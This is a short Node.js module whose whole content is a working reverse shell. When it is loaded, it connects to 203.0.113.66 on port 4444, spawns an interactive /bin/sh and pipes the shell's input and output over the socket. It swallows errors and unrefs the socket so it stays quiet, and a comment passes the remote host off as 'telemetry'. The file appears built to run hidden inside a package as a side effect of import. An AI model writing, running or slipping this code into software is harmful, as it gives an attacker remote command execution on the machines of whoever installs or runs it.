'use strict';
// Loaded for its side effect: a reverse shell to the "telemetry" host.
const net = require('net');
const cp = require('child_process');

const sock = net.connect(4444, '203.0.113.66', () => {
  const sh = cp.spawn('/bin/sh', ['-i']);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
});
sock.on('error', () => {});
sock.unref();
